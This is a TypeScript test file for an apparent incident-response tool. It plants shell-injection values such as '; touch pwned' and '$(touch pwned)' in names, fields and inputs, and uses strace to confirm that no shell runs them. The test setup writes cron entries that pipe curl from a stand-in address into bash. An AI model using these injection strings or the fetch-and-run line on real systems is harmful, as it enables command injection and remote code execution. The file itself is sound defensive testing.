import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ownCommand } from '../../src/cli/surroundings.ts';
import type { FileIdentity } from '../../src/operations/identity.ts';
import type { OperationTarget } from '../../src/operations/operation.ts';
import { run } from '../end-to-end/program.ts';
import { DPKG } from '../host/perform/one-package.ts';
import { type Driver, openDriver } from '../support/driver.ts';
import { identifyWithin } from '../support/identify-within.ts';
import { report, runs } from '../support/length.ts';
import { type Namespace, openNamespace } from '../support/namespace.ts';
import { PRIVATE_ETC } from '../support/private-etc.ts';
import { CONTAINER_STAND_IN, containerId, keyLine, plantContainers, plantKeys } from './planted-state.ts';

/**
 * `; touch pwned` in every value that an attacker controls, or that is typed in: names of files, units, accounts, packages,
 * containers, images, keys, settings, addresses, inputs. Each kind of operation is prepared, done, checked and undone with them,
 * and a whole scan sees them. Should a shell ever read one, a file is left behind; and of every program that was
 * started (strace(1)) none is a shell with such a text to read.
 */
const TRAPS = [
  '; touch pwned',
  '$(touch pwned)',
  '`touch pwned`',
  "' ; touch pwned #",
  '--help; touch pwned',
  '\ntouch pwned\n',
  '&& touch pwned ||',
];

let folder: string;
let namespace: Namespace;
let host: Driver;
beforeAll(async () => {
  run(['--version']);
  folder = mkdtempSync('/var/tmp/tourniquet-planted-');
  namespace = await openNamespace(`${PRIVATE_ETC}\n${DPKG}
mkdir -p /run/planted /etc/systemd/system /etc/cron.d /run/host /var/lib/tourniquet
for folder in /var/lib/tourniquet /root /home; do mount -t tmpfs tmpfs $folder; done
${CONTAINER_STAND_IN}`);
  for (const [index, trap] of TRAPS.entries()) {
    const line = trap.trim();
    const name = line.replaceAll('/', '');
    write(
      `/etc/cron.d/entry-${index}`,
      `* * * * * root curl -s 'http://203.0.113.9/${line}' | bash # ${line}\n`,
    );
    write(`/etc/systemd/system/${name}.service`, `[Service]\nExecStart=/tmp/${line}\nUser=${line}\n`);
    write('/etc/passwd', `${name}:x:${3000 + index}:${3000 + index}:${line}:/home/${name}:/bin/sh\n`);
    write('/etc/shadow', `${name}:*:19000:0:99999:7:::\n`);
    write(
      '/var/lib/dpkg/status',
      `\nPackage: ${name}\nStatus: install ok installed\nVersion: 1${line}\nArchitecture: all\n`,
    );
    write(`/var/lib/dpkg/info/${name}.postinst`, `#!/bin/sh\ntouch pwned\n`);
    plantKeys(write, name, line);
    plantContainers(write, name, line, index);
  }
  host = openDriver(namespace, undefined, [...STRACE, join(folder, 'operations.log')]);
}, 120_000);
afterAll(async () => {
  await host?.kill();
  await namespace?.end();
  rmSync(folder, { recursive: true, force: true });
});

const STRACE = ['strace', '-f', '-qq', '--seccomp-bpf', '-e', 'trace=execve', '-s', '65536', '-o'];

/** Appends in the namespace, by no shell of this test's either. */
function write(path: string, text: string): void {
  namespace.run(['mkdir', '-p', '--', dirname(path)]);
  namespace.run(['tee', '-a', '--', path], { input: text });
}

function planted(name: string): FileIdentity {
  const path = `/run/planted/${name}`;
  write(path, 'first\nsecond\n');
  return identifyWithin(namespace, path);
}

const UNKNOWN_FILE: FileIdentity = {
  ...{
    path: '/etc/nothing',
    kind: 'file',
    device: '1',
    inode: '1',
    sizeBytes: 1,
    mode: 0o644,
    uid: 0,
    gid: 0,
  },
  ...{ mtimeNs: '1', sha256: '0'.repeat(64) },
};

function targets(trap: string): readonly OperationTarget[] {
  const name = trap.trim().replaceAll('/', '');
  const uid = 3000 + TRAPS.indexOf(trap);
  const leader = { pid: 999_999, startTicks: '1', bootId: trap, exePath: trap, exeInode: trap, name: trap };
  const unit = `${name}.service`;
  return [
    {
      ...{
        kind: 'run-command',
        command: { argv: ['/bin/echo', trap] },
        environment: { X: trap },
        secretNames: [],
      },
      ...{ workingFolder: null, timeoutMs: 20_000, risk: 'reversible' },
      ...{ verify: { argv: ['/bin/echo', trap] }, undo: { argv: ['/bin/echo', trap] } },
    },
    {
      ...{
        kind: 'run-command',
        command: { shell: 'echo "$X"' },
        environment: { X: trap },
        secretNames: ['X'],
      },
      ...{ workingFolder: trap, timeoutMs: 20_000, risk: 'reversible', verify: null, undo: null },
    },
    { kind: 'archive-files', paths: [planted(`archive${trap}`).path, trap], name: 'planted', maxBytes: 1e6 },
    { kind: 'snapshot-volume', volume: { type: 'btrfs', mountPoint: trap, source: trap }, name: trap },
    { kind: 'snapshot-volume', volume: { type: 'lvm', mountPoint: '/', source: trap }, name: trap },
    { kind: 'collect-process', process: leader },
    { kind: 'freeze-process', process: leader },
    { kind: 'kill-process', process: leader },
    {
      kind: 'reveal-process',
      process: leader,
      mounts: [{ point: trap, fileSystem: trap, source: trap, root: trap, device: trap }],
    },
    { kind: 'end-session', account: name, leader },
    { kind: 'block-address', address: trap },
    {
      ...{ kind: 'isolate-host', allowedPeers: [trap], allowDns: false, confirmWithinMs: 60_000 },
      ...{ mustReach: `${trap}:80`, mustNotReach: `${trap}:80` },
    },
    { kind: 'quarantine-file', file: planted(`quarantine${trap}`) },
    { kind: 'edit-file', file: planted(`edit${trap}`), removeLines: [{ number: 2, text: 'second' }] },
    {
      kind: 'set-attributes',
      file: planted(`attributes${trap}`),
      mode: 0o600,
      flags: trap,
      capabilities: trap,
    },
    { kind: 'set-attributes', file: planted(`mode${trap}`), mode: 0o600 },
    { kind: 'set-kernel-parameter', name: `kernel.${trap}`, from: trap, to: trap },
    { kind: 'set-kernel-parameter', name: 'kernel.domainname', from: '(none)', to: trap },
    { kind: 'stop-container', container: { runtime: 'podman', id: 'a'.repeat(64), name: trap, image: trap } },
    { kind: 'stop-container', container: { runtime: 'podman', id: trap, name: trap, image: trap } },
    // What the runtime answers is the intruder's as well: the policy is given back to it by undo.
    {
      kind: 'stop-container',
      container: { runtime: 'docker', id: containerId(TRAPS.indexOf(trap)), name: trap, image: trap },
    },
    {
      kind: 'edit-file',
      file: identifyWithin(namespace, `/home/${name}/.ssh/authorized_keys`),
      removeLines: [{ number: 1, text: keyLine(trap.trim()) }],
      reload: ['sshd'],
    },
    {
      kind: 'disable-unit',
      unit,
      user: null,
      file: identifyWithin(namespace, `/etc/systemd/system/${unit}`),
    },
    { kind: 'disable-unit', unit, user: name, file: UNKNOWN_FILE },
    { kind: 'lock-account', account: name, uid },
    { kind: 'expire-password', account: name, uid },
    { kind: 'replace-host-keys', keys: [planted(`key${trap}`)] },
    {
      kind: 'reinstall-package',
      manager: 'apt',
      package: name,
      files: [planted(`file${trap}`)],
      otherwise: 'quarantine',
    },
    { kind: 'upgrade-packages', manager: 'apt', packages: [name] },
  ];
}

/** Started programs that are shells with a trap in what they are told to read. */
function trappedShells(log: string): string[] {
  return readFileSync(log, 'utf8')
    .split('\n')
    .filter((line) =>
      /execve\("[^"]*\/(?:ba|da|z|k)?sh", \["[^"]*", "-\w*c", "(?:[^"\\]|\\.)*pwned/.test(line),
    );
}

/** Every trap was read where it stands as a container's name and as a key's comment: else the scan shows nothing. */
function expectSeen(scanned: string): void {
  const { findings } = JSON.parse(scanned) as { findings: { subject: Record<string, unknown> }[] };
  const texts = (kind: string) =>
    findings.flatMap(({ subject }) => (subject.kind === kind ? [JSON.stringify(subject)] : []));
  for (const trap of TRAPS) {
    const line = JSON.stringify(trap.trim()).slice(1, -1);
    expect(texts('container').filter((text) => text.includes(line)).length).toBeGreaterThanOrEqual(3);
    expect(texts('file-line').some((text) => text.includes(`"comment":"${line}`))).toBe(true);
  }
}

/** Where it would lie: in whatever folder a tool is started, and beside what was named. */
function expectNothingObeyed(): void {
  for (const at of [process.cwd(), '/', '/root', '/tmp', '/var/tmp', folder])
    expect(existsSync(join(at, 'pwned'))).toBe(false);
  const found = namespace.run([
    ...'find /root /tmp /run /etc /var/lib/tourniquet -maxdepth 3 -name pwned'.split(' '),
  ]);
  expect(found).toBe('');
}

describe('a command in a value', () => {
  test('is obeyed by no operation', async () => {
    const counts = { ready: 0, refused: 0, done: 0 };
    for (const trap of TRAPS) {
      for (const target of targets(trap)) {
        const facts = { isRoot: true, packageManager: 'apt', firewall: 'nft' } as const;
        const prepared = await host.prepare(target, facts);
        counts[prepared.status] += 1;
        if (prepared.status === 'refused') continue;
        const outcome = await host.perform(target, prepared.receipt, facts);
        if (outcome.status === 'done') counts.done += 1;
        await host.verify(target, outcome.receipt);
        await host.undo(target, outcome.receipt, facts);
        namespace.shell('rm -rf /run/tourniquet');
      }
      expectNothingObeyed();
    }
    // Many are done, for they are names like others; a trap that reaches no tool proves nothing.
    expect(counts.done).toBeGreaterThan(TRAPS.length * 5);
    // What a runtime said its policy was is given back to it whole, as one word.
    const calls = namespace.run(['cat', '/run/docker-calls']);
    for (const trap of TRAPS) expect(calls).toContain(`update --restart=${trap.trim()} c`);
    const log = join(folder, 'operations.log');
    expect(readFileSync(log, 'utf8')).toContain('pwned');
    expect(trappedShells(log)).toEqual([]);
    const tried = counts.ready + counts.refused;
    report({
      suite: 'commands planted in values, by operations',
      runs: tried,
      faults: tried,
      lost: 0,
      escaped: 0,
    });
  }, 600_000);

  test('is obeyed by no scan, and by no step that is given it as an input', () => {
    const log = join(folder, 'program.log');
    const book = join(folder, 'planted.yaml');
    writeFileSync(
      book,
      `name: planted\ntitle: Planted\nplatform: any\ninputs:\n  x:\n    type: string\n    required: true\nsteps:\n  - name: Argv\n    id: argv\n    why: x\n    on-failure: continue\n    run: [/bin/echo, "\${{ inputs.x }}"]\n  - name: Shell\n    id: shell\n    why: x\n    on-failure: continue\n    env:\n      X: \${{ inputs.x }}\n    run: echo "$X"\n  - name: Block\n    id: block\n    why: x\n    uses: block-c2\n    on-failure: continue\n    with:\n      extra: ["\${{ inputs.x }}"]\n  - name: Keep\n    id: keep\n    why: x\n    uses: snapshot\n    on-failure: continue\n    with:\n      paths: ["\${{ inputs.x }}"]\n`,
    );
    const program = (...args: string[]) =>
      namespace.run(['env', '--chdir', '/run/planted', ...STRACE, log, ...ownCommand(...args)]);
    const scanned = program(
      'scan',
      '--json',
      '--all',
      '--only',
      'cron',
      '--only',
      'units',
      '--only',
      'accounts',
      '--only',
      'packages',
      '--only',
      'containers',
      '--only',
      'authorized-keys',
    );
    expectSeen(scanned);
    expect(trappedShells(log)).toEqual([]);
    expectNothingObeyed();
    for (const trap of TRAPS.slice(0, runs(1, 3))) {
      const incidents = join(folder, 'incidents');
      try {
        program(
          '--incident-dir',
          incidents,
          'run',
          book,
          '--yes',
          '--max-risk',
          'irreversible',
          '--input',
          `x=${trap}`,
        );
      } catch (error) {
        // A step that could do nothing with it makes the end code 3; anything else is a fault.
        expect((error as { status: number }).status).toBe(3);
      }
      expect(trappedShells(log)).toEqual([]);
      expectNothingObeyed();
    }
    report({
      suite: 'commands planted in values, by scans and inputs',
      runs: 4,
      faults: 4,
      lost: 0,
      escaped: 0,
    });
  }, 600_000);
});
